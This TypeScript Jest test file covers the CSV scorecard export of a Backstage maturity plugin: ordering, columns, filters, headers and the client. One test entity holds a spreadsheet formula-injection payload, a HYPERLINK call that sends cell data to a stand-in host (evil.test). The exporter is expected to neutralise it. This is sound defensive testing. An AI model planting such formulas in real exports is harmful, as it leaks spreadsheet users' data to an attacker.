import { MaturityClient } from '@backstage-maturity/plugin-maturity-common';
import { mockCredentials } from '@backstage/backend-test-utils';
import type { AddressInfo } from 'node:net';
import { component, group, system } from '../__testUtils__/entities';
import { type Portal, startPortal } from '../__testUtils__/startPortal';
import { TestCatalog } from '../__testUtils__/TestCatalog';
import { ENGINES, TestDatabases } from '../__testUtils__/TestDatabases';

jest.setTimeout(120_000);

const databases = TestDatabases.create();
const MANY = 1_203;

describe.each(ENGINES)('CSV of scorecards on %s', engine => {
  let portal: Portal;

  beforeAll(async () => {
    const names = Array.from(
      { length: MANY },
      (_, at) => `api-${String(at).padStart(4, '0')}`,
    );
    const catalog = new TestCatalog([
      group('payments'),
      system('shop'),
      ...names.map(name => component(name)),
      component('hostile', {
        title: '=HYPERLINK("https://evil.test?"&A1)',
        spec: { type: '＋cmd', system: 'shop' },
      }),
      component('worded', {
        title: 'Say "hi",\nplease',
        spec: { type: 'job' },
      }),
    ]);
    portal = await startPortal({
      db: await databases.connect(engine),
      catalog,
    });
    await portal.sweep();
  });

  afterAll(() => portal.stop());

  const csv = (path: string) => portal.get(path).set('Accept', 'text/csv');
  const lines = (text: string) => text.split('\r\n').slice(1, -1);

  it('has a line for every scorecard, in the order asked for', async () => {
    const { status, text } = await csv('/scorecards?sort=-name&q=api-');

    expect(status).toBe(200);
    expect(lines(text)).toHaveLength(MANY);
    const first = lines(text).map(line => line.split(',')[0]);
    expect(first.at(0)).toBe('component:default/api-1202');
    expect(first.at(-1)).toBe('component:default/api-0000');
    expect(new Set(first).size).toBe(MANY);
  });

  it('names its columns', async () => {
    const { text } = await csv('/scorecards?q=api-0007');

    expect(text.split('\r\n')[0]).toBe(
      '\uFEFFentity,title,type,lifecycle,tier,owner,system,stage,target,notes,' +
        'devops level,devops achievable,devops score,devops coverage,devops proven,' +
        'sre level,sre achievable,sre score,sre coverage,sre proven,' +
        'platform level,platform achievable,platform score,platform coverage,platform proven,' +
        'overall,evaluated',
    );
    const { body } = await portal.get('/scorecards?q=api-0007');
    const [card] = body.items;
    const { devops, sre, platform } = card.tracks;
    const figures = [devops, sre, platform].flatMap(
      ({ level, achievable, score, coverage, proven }) => [
        level,
        achievable,
        score,
        coverage,
        proven,
      ],
    );
    expect(lines(text)).toEqual([
      [
        'component:default/api-0007',
        'api-0007',
        'service',
        'production',
        '',
        'group:default/payments',
        '',
        card.stage,
        card.target,
        card.notes.join(' '),
        ...figures.map(figure => figure ?? ''),
        card.overall,
        card.evaluatedAt,
      ].join(','),
    ]);
  });

  it('honours filters', async () => {
    const found = await csv('/scorecards?type=job&limit=1');
    expect(lines(found.text)).toHaveLength(1);
    const none = await csv('/scorecards?q=nothing-like-this');
    expect(lines(none.text)).toEqual([]);
    expect(none.text).toContain('entity,title');
  });

  it('counts limit for nothing', async () => {
    const { text } = await csv('/scorecards?limit=1');
    expect(text.match(/component:default\//g)).toHaveLength(MANY + 2);
  });

  it('lets no spreadsheet run a cell, and quotes what needs it', async () => {
    const hostile = await csv('/scorecards?q=hostile');
    expect(hostile.text).toContain(
      `component:default/hostile,"'=HYPERLINK(""https://evil.test?""&A1)",'＋cmd,`,
    );
    const worded = await csv('/scorecards?q=worded');
    expect(worded.text).toContain(
      'component:default/worded,"Say ""hi"",\nplease",job,',
    );
  });

  it('says what it is', async () => {
    const { headers } = await csv('/scorecards?q=api-0007');

    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toBe(
      'attachment; filename="scorecards.csv"',
    );
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cache-control']).toBe('no-store');
    expect(headers.vary).toContain('Accept');
  });

  it.each(['application/json', '*/*', 'text/csv;q=0.5, application/json'])(
    'is not given for Accept: %s',
    async accept => {
      const { headers } = await portal
        .get('/scorecards?limit=1')
        .set('Accept', accept);
      expect(headers['content-type']).toContain('application/json');
      expect(headers.vary).toContain('Accept');
    },
  );

  it('answers a wrong question with a sentence', async () => {
    const { status, headers, body } = await csv('/scorecards?check=nothing');

    expect(status).toBe(400);
    expect(headers['content-type']).toContain('application/json');
    expect(body.error.message).toContain('"nothing"');
  });

  it('reaches the client', async () => {
    const { server } = portal.backend;
    const address: AddressInfo | string | null = server.address();
    const port = typeof address === 'object' ? address?.port : undefined;
    const client = new MaturityClient({
      discoveryApi: {
        getBaseUrl: async id => `http://127.0.0.1:${port}/api/${id}`,
      },
    });
    const token = mockCredentials.user.token();
    const text = await client.exportScorecards(
      { type: ['job'], sort: 'name' },
      { token },
    );

    expect(text.startsWith('entity,title')).toBe(true);
    expect(text).toContain('component:default/worded');
    await expect(
      client.exportScorecards({ check: 'nothing' }, { token }),
    ).rejects.toMatchObject({
      body: { error: { message: expect.stringContaining('"nothing"') } },
    });
  });
});
